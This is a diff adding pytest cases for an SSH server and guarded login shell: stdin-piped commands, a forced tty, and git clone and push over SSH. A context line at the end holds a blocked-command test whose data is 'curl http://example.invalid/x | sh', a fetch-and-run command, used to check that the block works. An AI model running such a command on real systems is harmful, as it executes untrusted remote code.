@@ -41,6 +41,59 @@ def test_ssh_command_stdin_passthrough(sshd: Sshd) -> None:
     assert done.returncode == 0 and done.stdout.startswith(want), sshd.explain(done)
 
 
+def test_ssh_commands_on_stdin_without_a_tty(sshd: Sshd) -> None:
+    # `ssh host < script`: sshd starts the login shell with no command and a pipe
+    # for stdin; the shell must read and run the commands, not show a prompt.
+    done = sshd.ssh_stdin(b"echo $((6*7))\nexit 5\n")
+    assert (done.returncode, done.stdout) == (5, b"42\n"), sshd.explain(done)
+
+
+def test_ssh_command_with_a_forced_tty(sshd: Sshd) -> None:
+    # `ssh -tt host CMD`: a command with a terminal is still not interactive.
+    done = subprocess.run(
+        [*sshd.ssh_argv("-tt"), "echo $((6*7)); exit 3"],
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        timeout=30,
+    )
+    assert (done.returncode, done.stdout) == (3, b"42\r\n"), sshd.explain(done)
+
+
+def test_git_clone_and_push_over_ssh(sshd: Sshd, tmp_path: Path) -> None:
+    # git runs `git-upload-pack '<path>'` / `git-receive-pack '<path>'` through `SHELL -c`.
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed; contrib/dev.sh installs it")
+    init = sshd.ssh("git init -q --bare -b main repo.git")
+    assert init.returncode == 0, sshd.explain(init)
+    env = {
+        **os.environ,
+        "GIT_SSH_COMMAND": sshd.ssh_command_for_rsync(),
+        "GIT_CONFIG_NOSYSTEM": "1",
+        "HOME": str(tmp_path),
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@example.invalid",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@example.invalid",
+    }
+    url = f"ssh://{sshd.target}:{sshd.port}/~/repo.git"
+
+    def git(*args: str, cwd: Path = tmp_path) -> None:
+        done = subprocess.run(
+            ["git", *args], cwd=cwd, env=env, capture_output=True, stdin=subprocess.DEVNULL,
+            timeout=60,
+        )  # fmt: skip
+        assert done.returncode == 0, sshd.explain(done)
+
+    git("clone", "-q", url, "work")
+    work = tmp_path / "work"
+    (work / "f.bin").write_bytes(PAYLOAD)
+    git("add", "f.bin", cwd=work)
+    git("commit", "-qm", "payload", cwd=work)
+    git("push", "-q", "origin", "HEAD:main", cwd=work)
+    git("clone", "-q", url, "again")
+    assert (tmp_path / "again" / "f.bin").read_bytes() == PAYLOAD
+
+
 def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd) -> None:
     line = "curl http://example.invalid/x | sh"
     if sshd.user.shell.name != "attyguard":
